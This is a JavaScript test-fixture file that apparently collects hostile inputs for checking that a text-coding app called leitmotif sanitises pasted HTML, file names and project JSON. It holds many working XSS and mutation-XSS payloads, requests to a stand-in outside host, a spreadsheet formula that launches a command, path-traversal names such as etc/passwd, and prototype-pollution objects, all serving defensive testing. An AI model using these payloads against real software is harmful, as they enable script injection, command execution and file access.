/**
 * A corpus of attacks: what somebody could bring others to paste, open or drop. Each would leave a mark if it ran: it sets
 * `window.ran`, asks `leitmotif.invalid` for something, or changes what all objects inherit.
 */

const RAN = "window.ran=1";
const OUTSIDE = "https://leitmotif.invalid";

/** As plain text: shown as it is written. */
export const TEXTS = {
  "a script": `<script>${RAN}</script>`,
  "a script that closes what it may stand in": `</p></li></ol></textarea></title></style></template></script><script>${RAN}</script>`,
  "a picture with a handler": `<img src=x onerror="${RAN}">`,
  "SVG with a handler": `<svg/onload=${RAN}><animate onbegin=${RAN} attributeName=x dur=1s>`,
  "a frame with a script address": `<iframe src="javascript:parent.${RAN.slice(7)}"></iframe>`,
  "a link with a script address": `<a href="jAvAsCrIpT:${RAN}">x</a> [x](javascript:${RAN}) ![x](${OUTSIDE}/i.png)`,
  "a data address": `data:text/html,<script>${RAN}</script>`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=${OUTSIDE}/">`,
  "another base": `<base href="${OUTSIDE}/">`,
  "a style that loads": `<style>@import "${OUTSIDE}/x.css"; * { background: url(${OUTSIDE}/x.png) }</style>`,
  "a style sheet": `<link rel="stylesheet" href="${OUTSIDE}/x.css"><link rel="preload" as="image" href="${OUTSIDE}/x.png">`,
  "entities": "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62; \\u003cscript\\u003e",
  "templates of frameworks": "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= window.ran=1 %> #{window.ran=1}",
  "an import": `import("${OUTSIDE}/x.js"); eval("${RAN}"); new Function("${RAN}")();`,
  "names that objects have": "__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__",
  "a comment that never ends": `<!-- ${"-".repeat(50)}`,
  "a formula": `=HYPERLINK("${OUTSIDE}/?x="&A1,"press") =cmd|' /C calc'!A0`,
  "directions turned round": "It says \u202etxt.exe\u202c and \u2066left\u2069 and \u200fright",
};

/** HTML of a clipboard or a file. In each stand, besides, two paragraphs that must be read. */
export const PAGES = {
  "scripts": `<script>${RAN}</script><script src="${OUTSIDE}/x.js"></script><script type=module>import "${OUTSIDE}/y.js"</script>`,
  "handlers": `<div onclick="${RAN}" onmouseover="${RAN}" onfocus="${RAN}" tabindex=0 autofocus>Press here</div><details open ontoggle=${RAN}><summary>More</summary></details>`,
  "handlers without blanks or quotes": `<img/src/onerror=${RAN}><svg/onload=${RAN}><body/onload=${RAN}><input/autofocus/onfocus=${RAN}>`,
  "media": `<img src="${OUTSIDE}/a.png" srcset="${OUTSIDE}/b.png 2x" onerror=${RAN}><video poster="${OUTSIDE}/c.png" src="${OUTSIDE}/d.mp4" autoplay></video><audio src="${OUTSIDE}/e.mp3" autoplay></audio>`,
  "frames": `<iframe src="${OUTSIDE}/"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="${OUTSIDE}/o"></object><embed src="${OUTSIDE}/e"><frameset><frame src="javascript:${RAN}"></frameset>`,
  "SVG": `<svg onload="${RAN}"><script>${RAN}</script><image href="${OUTSIDE}/x.png"/><use href="${OUTSIDE}/x.svg#a"/><foreignObject><iframe src="javascript:${RAN}"></iframe></foreignObject><set attributeName="onclick" to="${RAN}"/></svg>`,
  "addresses": `<a href="javascript:${RAN}">One</a><a href="java\tscript:${RAN}">two</a><a href="data:text/html,<script>${RAN}</script>" ping="${OUTSIDE}/p">three</a><form action="javascript:${RAN}"><button formaction="javascript:${RAN}">Four</button></form>`,
  "a refresh and another base": `<meta http-equiv="refresh" content="0;url=javascript:${RAN}"><base href="${OUTSIDE}/"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  "styles": `<style>@import url(${OUTSIDE}/x.css); body { display: none }</style><link rel=stylesheet href="${OUTSIDE}/y.css"><p style="background: url(${OUTSIDE}/z.png); position: fixed; inset: 0">Over all</p>`,
  "a style that turns into markup (foreign content)": `<svg></p><style><a id="</style><img src=1 onerror=${RAN}>">`,
  "a comment that turns into markup (glyphs of mathematics)": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RAN}&gt;">`,
  "a form within a form that turns into markup": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RAN}>`,
  "an attribute that turns into markup (noscript)": `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  "text that turns into markup": `<xmp><p title="</xmp><img src=x onerror=${RAN}>"></xmp><noembed><p title="</noembed><img src=x onerror=${RAN}>"></noembed><plaintex><title><img src=x onerror=${RAN}></title>`,
  "character data of SVG": `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${RAN}>"></svg>`,
  "templates and shadow roots": `<template><img src=x onerror=${RAN}></template><div><template shadowrootmode="open"><img src=x onerror=${RAN}></template></div><select><template><script>${RAN}</script></template></select>`,
  "names that hide the page's own": "<form id=error name=error><input name=hidden><input name=textContent></form><a id=status></a><img name=getElementById><p id=paragraphs><input id=text name=parentNode>",
  "the page's own elements": `<leitmotif-reader target="body" engine="${OUTSIDE}/x"></leitmotif-reader><leitmotif-box></leitmotif-box>`,
  "a huge attribute": `<p title="${"x".repeat(500_000)}" onclick="${RAN}">Long</p>`,
  "ten thousand deep": `${"<div>".repeat(10_000)}Deep${"</div>".repeat(10_000)}`,
  "tags that never end": `<p ${"a ".repeat(20_000)}<img src=x onerror=${RAN} <<<<<<script>`,
};

/** The paragraphs that stand in each of the pages. */
export const SOUND = ["The factory makes steel.", "He smiled."];

export const FILE_NAMES = [
  `<img src=x onerror="${RAN}">.txt`,
  `"><script>${RAN}</script>.txt`,
  "../../../../etc/passwd.txt",
  "..\\..\\windows\\system32\\drivers.txt",
  "C:\\CON.txt",
  "\u202etxt.exe.txt",
  "__proto__.txt",
  "constructor.txt",
  `${"long ".repeat(200)}.txt`,
  "a\u0000b\nc.txt",
  "javascript:window.ran=1.txt",
];

const deep = (depth, open, close) => open.repeat(depth) + close.repeat(depth);

/**
 * Project files that must be refused.
 *
 * @param {string} sound the text of a sound one
 * @returns {Record<string, string>}
 */
export function refusedProjects(sound) {
  const at = (change) => {
    const project = JSON.parse(sound);
    change(project, project.articles[0], project.articles[0].paragraphs[0]);
    return JSON.stringify(project);
  };
  const within = (field, value) => sound.replace(new RegExp(`"${field}":`), `${value},"${field}":`);
  return {
    "__proto__ of the project": within("coder", '"__proto__":{"polluted":1}'),
    "__proto__ of an article": within("source", '"__proto__":{"polluted":1}'),
    "__proto__ of a paragraph": within("included", '"__proto__":{"polluted":1}'),
    "__proto__ instead of an article": at((project) => (project.articles = [])).replace('"articles":[]', '"articles":{"__proto__":[],"length":1}'),
    "__proto__ as a theme": at((_, __, paragraph) => (paragraph.codes = { themes: ["__proto__"], coder: "", at: "2026-11-25T10:00:00Z" })),
    "__proto__ as a probability": sound.replace('"probability": {', '"probability": {"__proto__":0.5,'),
    "constructor of the project": within("coder", '"constructor":{"prototype":{"polluted":1}}'),
    "a format that calls itself a text": '{"format":{"toString":"leitmotif project 1"}}',
    "an enormous probability": sound.replace(/"industry": [\d.]+/, '"industry":1e999'),
    "a probability below nothing": sound.replace(/"industry": [\d.]+/, '"industry":-1e-300'),
    "a number for a text": at((_, article) => (article.name = 1e308)),
    "a list for a text": at((_, __, paragraph) => (paragraph.text = ["x"])),
    "a text for a list": at((project) => (project.articles = "x")),
    "nothing for a list": at((_, article) => (article.paragraphs = null)),
    "a list with a hole": at((_, article) => (article.paragraphs = [null])),
    "a number for a switch": at((_, __, paragraph) => (paragraph.included = 1)),
    "a time that is none": at((_, __, paragraph) => (paragraph.codes = { themes: [], coder: "", at: "2026-99-99T99:99:99Z" })),
    "markup in the model's hash": at((project) => (project.model.sha256 = `<img src=x onerror=${RAN}>`)),
    "markup as a field": at((project) => (project[`<img src=x onerror=${RAN}>`] = 1)),
    "lists ten thousand deep": deep(10_000, "[", "]"),
    "objects ten thousand deep": `{"format":"leitmotif project 1","articles":${deep(10_000, '{"a":', "")}1${"}".repeat(10_000)}}`,
    "lists a million deep": deep(1_000_000, "[", "]"),
    "a script": `<script>${RAN}</script>`,
  };
}

/**
 * Project files that are sound, and whose names and texts try everything.
 *
 * @param {string} sound
 * @returns {Record<string, string>}
 */
export function sneakyProjects(sound) {
  const project = JSON.parse(sound);
  const [article] = project.articles;
  const [paragraph] = article.paragraphs;
  const of = (articles, more = {}) => JSON.stringify({ ...project, ...more, articles });
  const coded = (themes) => ({ themes, coder: `<img src=x onerror=${RAN}>`, at: "2026-11-25T10:00:00Z" });
  const texts = Object.values(TEXTS);
  return {
    "themes with the names of what objects have": of([{ ...article, paragraphs: [{ ...paragraph, codes: coded(["constructor", "prototype", "tostring", "valueof"]) }] }]),
    "every attack as a text, a note, a name and a coder": of(
      texts.map((text) => ({ ...article, name: text, source: text, paragraphs: [{ ...paragraph, text, note: text, codes: coded(["ecology"]) }] })),
      { coder: texts[0], app: texts[2] },
    ),
    "a model that is another": of([article], { model: { id: `<svg onload=${RAN}>`, sha256: "f".repeat(64) } }),
    "no article": of([]),
    "an article without a paragraph": of([{ ...article, source: "", paragraphs: [] }]),
    "a paragraph without a text": of([{ ...article, paragraphs: [{ ...paragraph, text: "" }] }]),
  };
}
